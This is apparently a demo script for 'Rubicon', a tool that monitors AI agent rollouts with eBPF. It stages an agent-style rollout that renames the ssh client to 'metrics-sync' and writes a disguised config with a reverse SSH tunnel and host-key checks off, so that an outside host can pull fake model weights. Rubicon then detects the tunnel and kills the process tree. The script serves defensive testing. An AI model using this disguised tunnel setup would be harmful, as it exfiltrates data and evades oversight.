"""The main job on real input, in under a minute: `make demo` (root).

Act 1 only watches: a rollout opens a reverse SSH tunnel with a renamed client to port 443, bytes are pulled through it,
Rubicon names the process tree and the evidence, and one command ends it. Act 2 is the same rollout with `--on-alert kill`.
The exit status is 0 only when every line of the proof holds.
"""

from __future__ import annotations

import contextlib
import functools
import http.server
import json
import os
import shlex
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import TypeVar

from outside import HERE, PORT, THERE, Outside

HOME = Path(__file__).parent
RUBICON = str(Path(sys.executable).parent / "rubicon")
INSTANCE = "demo"
ENVIRONMENT = {**os.environ, "RUBICON_INSTANCE": INSTANCE}
TUNNEL_PORT = 18022
SECRET = 256 * 1024
PROOFS = 12
TRIES, PAUSE_S = 10, 0.5
"""Of a step of the cleaning up that the system refuses: a full process table has room again soon."""
FAILURES = (RuntimeError, OSError, subprocess.SubprocessError, ValueError, KeyError)
BOLD, DIM, GREEN, RED, PLAIN = (
    ("\033[1m", "\033[2m", "\033[32m", "\033[31m", "\033[0m")
    if sys.stdout.isatty() and not os.environ.get("NO_COLOR")
    else ("", "", "", "", "")
)


T = TypeVar("T")


class Demo:
    """The acts, and what they proved."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.outside = Outside(folder)
        self.proof: list[tuple[bool, str]] = []
        self.rollouts: list[subprocess.Popen[bytes]] = []

    def prepare(self) -> None:
        """The outside, something worth stealing on loopback, and a client that does not look like one."""
        say("An outside host", f"its own network namespace, OpenSSH on {THERE}:{PORT}")
        self.outside.open()
        (self.folder / "www").mkdir()
        (self.folder / "www" / "weights.bin").write_bytes(os.urandom(SECRET))
        handler = functools.partial(Quiet, directory=str(self.folder / "www"))
        inner = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=inner.serve_forever, daemon=True).start()
        shutil.copy(shutil.which("ssh") or "/usr/bin/ssh", self.folder / "metrics-sync")
        (self.folder / "metrics.conf").write_text(
            f"Host collector\n  HostName {THERE}\n  Port {PORT}\n  BindAddress {HERE}\n  IdentityFile {self.folder}/user\n"
            f"  RemoteForward {TUNNEL_PORT} 127.0.0.1:{inner.server_port}\n  ExitOnForwardFailure yes\n"
            "  SessionType none\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  LogLevel ERROR\n"
        )
        say("Plane and sensor", "rubicon up")
        show("up")

    def rollout(self, name: str, *options: str) -> subprocess.Popen[bytes]:
        """Start the rollout as an agent."""
        script = [str(HOME / "rollout.sh"), str(self.folder / "metrics.conf"), str(self.folder / "metrics-sync")]
        print(
            f"{DIM}$ {shlex.join(['rubicon', 'run', '--name', name, *options, '--', 'rollout.sh'])}{PLAIN}", flush=True
        )
        started = subprocess.Popen(
            [RUBICON, "run", "--name", name, *options, "--", *script], env=ENVIRONMENT, stdin=subprocess.DEVNULL
        )
        self.rollouts.append(started)
        return started

    def watch(self) -> None:
        """Act 1."""
        say("Act 1: watch", "an honest task first, then a reverse tunnel: OpenSSH renamed, argv says nothing")
        rollout = self.rollout("rollout-17", "-l", "job=rome-7", "--on-alert", "monitor")
        pulled = until(lambda: self.outside.pull(TUNNEL_PORT), 20)
        self.check(pulled == SECRET, f"the tunnel is real: the outside pulled {pulled} bytes through it")
        alert = until(lambda: named("rollout-17"), 10)
        self.check(bool(alert), "ssh-remote-forward was recognised from the kernel")
        say("Who is it?", "the process tree, live")
        show("tree", "rollout-17")
        holder = alert["process"]["exe"] if alert else ""
        self.check(holder.endswith("/metrics-sync"), f"the alert names the process that holds the tunnel: {holder}")
        say("Stop it", "one command")
        show("kill", "rollout-17", "--reason", "reverse tunnel")
        status = rollout.wait(timeout=20)
        self.check(status == 137, f"rubicon run ended with status {status} and said why")
        self.gone("rollout-17")

    def stop(self) -> None:
        """Act 2."""
        say("Act 2: stop", "the same rollout, ended by the alert itself")
        rollout = self.rollout("rollout-18", "-l", "job=rome-7", "--on-alert", "kill")
        pulled = 0
        while rollout.poll() is None:
            pulled += self.outside.pull(TUNNEL_PORT)
        self.check(rollout.returncode == 137, f"rubicon run ended with status {rollout.returncode}")
        self.check(bool(named("rollout-18")), f"the alert came, and {pulled} bytes had been pulled when it ended")
        self.gone("rollout-18")

    def gone(self, name: str) -> None:
        """Prove that nothing is left of an agent."""
        left = [json.loads(line) for line in output("tree", name, "--json").splitlines()]
        alive = [each for each in left if each.get("alive", not each.get("ended_at"))]
        self.check(not alive, "the agent's process tree is empty")
        connections = until(lambda: self.outside.connections() == 0, 5)
        self.check(bool(connections), "the outside host has no SSH connection any more")
        self.check(self.outside.pull(TUNNEL_PORT) == 0, "the tunnel is dead: a pull gets nothing")

    def check(self, holds: bool, what: str) -> None:
        """One line of the proof."""
        self.proof.append((holds, what))
        print(f"  {GREEN + '✔' if holds else RED + '✘'} {what}{PLAIN}", flush=True)

    def close(self) -> list[str]:
        """Leave nothing behind: every step is tried, whatever becomes of the others; what went wrong."""
        failed: list[str] = []
        kills = [(f"kill {name}", functools.partial(self._kill, name)) for name in ("rollout-17", "rollout-18")]
        for what, step in (
            *kills,
            ("end the rollouts", self._end),
            ("take plane and sensor down", self._down),
            ("remove the outside host", self.outside.close),
            ("remove the state", self._forget),
        ):
            try:
                again(step)
            except FAILURES as error:
                failed.append(f"could not {what}: {error}")
        return failed

    def _kill(self, name: str) -> None:
        """Its tree; where there is no such agent any more, that is well."""
        subprocess.run(
            [RUBICON, "kill", "--local", name], env=ENVIRONMENT, capture_output=True, check=False, timeout=90
        )

    def _end(self) -> None:
        for rollout in self.rollouts:
            if rollout.poll() is None:
                rollout.terminate()
        for rollout in self.rollouts:
            with contextlib.suppress(subprocess.TimeoutExpired):
                rollout.wait(timeout=20)
            if rollout.poll() is None:
                rollout.kill()

    def _down(self) -> None:
        done = subprocess.run(
            [RUBICON, "down", "--yes"], env=ENVIRONMENT, capture_output=True, text=True, check=False, timeout=90
        )
        if done.returncode:
            raise RuntimeError(done.stderr.strip())

    def _forget(self) -> None:
        for state in (f"/run/rubicon-{INSTANCE}", f"/var/lib/rubicon-{INSTANCE}"):
            with contextlib.suppress(FileNotFoundError):
                shutil.rmtree(state)


class Quiet(http.server.SimpleHTTPRequestHandler):
    """Serves without a word."""

    def log_message(self, format: str, *arguments: object) -> None:
        """Nothing."""


def say(title: str, detail: str) -> None:
    """A heading."""
    print(f"\n{BOLD}{title}{PLAIN}  {detail}", flush=True)


def show(*arguments: str) -> None:
    """Run a command of ours in full view."""
    print(f"{DIM}$ {shlex.join(['rubicon', *arguments])}{PLAIN}", flush=True)
    subprocess.run([RUBICON, *arguments], env=ENVIRONMENT, check=False)


def output(*arguments: str) -> str:
    """Run a command of ours for its output."""
    return subprocess.run([RUBICON, *arguments], env=ENVIRONMENT, capture_output=True, text=True, check=False).stdout


def named(agent: str) -> dict[str, dict[str, str]] | None:
    """The agent's alert about remote forwarding, as JSON."""
    for line in output("alerts", agent, "--json").splitlines():
        alert = json.loads(line)
        if alert["detector"] == "ssh-remote-forward":
            return dict(alert)
    return None


def until(look: Callable[[], T], seconds: float) -> T:
    """What `look` gives once it gives something, or at the deadline."""
    deadline = time.monotonic() + seconds
    while not (found := look()) and time.monotonic() < deadline:
        time.sleep(0.05)
    return found


def again(step: Callable[[], None]) -> None:
    """Do it, again after a while when the system refuses (no process to be had, say).

    Raises:
        OSError: it is still refused at the last try.
    """
    for left in reversed(range(TRIES)):
        try:
            step()
            return
        except OSError:
            if not left:
                raise
            time.sleep(PAUSE_S)


def main() -> int:
    """Play it; 0 when all of it happened, 130 when interrupted."""
    if os.geteuid():
        print(
            "make demo needs root: it loads eBPF programs and makes a network namespace (sudo make demo)",
            file=sys.stderr,
        )
        return 1

    over: list[int] = []

    def interrupt(number: int, _frame: object) -> None:
        if not over:  # the first one ends the acts, none ends the cleaning up
            over.append(number)
            raise KeyboardInterrupt

    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(number, interrupt)
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="rubicon-demo-", ignore_cleanup_errors=True) as folder:
        demo = Demo(Path(folder))
        try:
            for act in (demo.prepare, demo.watch, demo.stop):
                act()
            over.append(0)
        except KeyboardInterrupt:
            print("\ninterrupted: cleaning up", file=sys.stderr)
            return 130
        except FAILURES as error:
            over.append(0)
            demo.check(False, f"{type(error).__name__}: {error}")
        finally:
            for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
                signal.signal(number, signal.SIG_IGN)  # for what the cleaning up starts, too
            left = demo.close()
            for line in left:
                print(f"{RED}{line}{PLAIN}", file=sys.stderr)
    held = all(holds for holds, _ in demo.proof) and len(demo.proof) == PROOFS and not left
    what = "all of it happened" if held else "NOT all of it happened"
    count = sum(holds for holds, _ in demo.proof)
    print(f"\n{BOLD}{what}{PLAIN}  {count} of {PROOFS} proofs, {time.monotonic() - started:.0f} s")
    return 0 if held else 1


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:  # before there was anything to clean up
        sys.exit(130)
